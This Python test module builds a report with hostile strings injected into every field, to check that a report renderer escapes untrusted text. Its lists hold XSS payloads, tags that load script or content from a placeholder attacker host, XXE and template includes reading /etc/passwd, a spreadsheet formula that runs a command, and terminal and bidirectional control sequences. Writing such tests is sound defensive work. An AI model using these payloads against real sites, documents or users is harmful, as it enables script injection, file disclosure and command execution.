"""Strings that attack a reader of the report, and a report that carries one everywhere."""

from __future__ import annotations

import math
from typing import Any

from pipeline.parity.types import Quality
from pipeline.report.schema import Report, SampleSizes
from tests.report.example import example_report

MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '"><script src=//evil.example/x.js></script>',
    "'><iframe src=javascript:alert(1)></iframe>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</details></summary></table><script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<object data=//evil.example/x.swf>",
    "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example><button>x</button></form>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style=background:url(//evil.example/x.png)>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}",
    "<ScRiPt\n>alert(1)</sCrIpT\n>",
    "<video><source onerror=alert(1)></video>",
    "javascript:alert(1)",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
)

MARKDOWN = (
    "a | b | c",
    "`code` ``more`` ```fence",
    "```\n# Passed\n```",
    "line\n\n# ✅ Passed\n\n- all is well",
    "[click](javascript:alert(1))",
    "![image](https://evil.example/x.png)",
    "https://evil.example/x www.evil.example mail@evil.example",
    "<details open><summary>x",
    "\\| \\` \\\\",
    "# heading",
    "- item",
    "1. item",
    "| --- | --- |",
    "**bold** __bold__ ~~gone~~ $x$",
    "@everyone",
)

CONTROL = (
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[H",
    "\x9b31mred",
    "zero\x00byte",
    "bell\x07 back\x08space",
    "vertical\x0btab form\x0cfeed",
    "carriage\rreturn",
    "noncharacter\ufffe\uffff",
    "surrogate\ud800",
    "\u202egnirts desrever",
    "\u2066isolate\u2069",
    "\ufeffmark",
    "\x85next line \u2028 line separator",
)

SPREADSHEET = ("=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)")

HUGE = "n" * 1_000_000

ALL = (*MARKUP, *MARKDOWN, *CONTROL, *SPREADSHEET)


def hostile_report(text: str) -> Report:
    """The example with the text wherever a report may hold one that we did not write."""
    base = example_report("error")
    gate, node, target = base.gates[0], base.nodes[0], base.targets[2]
    facts: dict[str, Any] = {
        text: text,
        "nan": math.nan,
        "list": [text, math.inf, {text: [text]}],
        "fusions": {text: {"fired": math.nan, "refused": [{"node": text, "reason": text}]}},
        "layer_types": {text: math.inf, "gemm": 3},
        "layer_rows": [{text: text, "name": text, "inputs": [text]}],
        "coverage": {text: 0.5},
    }
    failure = base.nodes[8].failure
    assert failure is not None
    wrong = failure.model_copy(
        update={"message": text, "hint": text, "signal": text, "last_lines": (text, text)}
    )
    first = target.parity[0]
    assert first.parity is not None
    output = first.parity.outputs[0].model_copy(update={"name": text})
    parity = first.parity.model_copy(
        update={"outputs": (output,), "problems": (text,), "session": text}
    )
    quality = Quality(
        metric=text,
        samples=1,
        answers=1,
        score=math.nan,
        reference_score=0.5,
        drop=math.inf,
        gained=0,
        lost=1,
    )
    parity = parity.model_copy(update={"quality": quality})
    weight = (
        base.targets[0]
        .weights[0]
        .model_copy(update={"component": text, "part": text, "dtype": text})
    )
    files = (target.files[0].model_copy(update={"path": text}),)
    engines = (target.engines[0].model_copy(update={"node": text, "file": text, "facts": facts}),)
    return base.model_copy(
        update={
            "name": text,
            "version": text,
            "reasons": (text,),
            "created_at": text,
            "recipe": {text: {"a": [text]}},
            "source": {text: text},
            "environment": {text: {text: text}},
            "gates": (
                gate.model_copy(
                    update={
                        "target": text,
                        "metric": text,
                        "limit": text,
                        "reason": text,
                        "measured": math.nan,
                        "verdict": "failed",
                        "is_allowed": False,
                    }
                ),
                *base.gates[1:],
            ),
            "nodes": (
                node.model_copy(update={"name": text, "reasons": (text,), "facts": facts}),
                node.model_copy(update={"name": text, "state": "failed", "failure": wrong}),
                *base.nodes[1:],
            ),
            "targets": (
                *base.targets[:2],
                target.model_copy(
                    update={
                        "name": text,
                        "proxy": text,
                        "not_run_reason": text,
                        "files": files,
                        "engines": engines,
                        "weights": (weight,),
                        "parity": (
                            first.model_copy(update={"node": text, "parity": parity}),
                            first.model_copy(
                                update={"component": text, "parity": None, "not_run_reason": text}
                            ),
                        ),
                    }
                ),
            ),
            "worst_samples": (
                base.worst_samples[0].model_copy(
                    update={"text": text, "output": text, "metric": text, "value": math.nan}
                    | {"label": text, "image": text}
                ),
            ),
            "warnings": (text,) * 6,
            "sample_sizes": (SampleSizes(axis=text, counts=((1, 2), (3, 4))),),
        }
    )
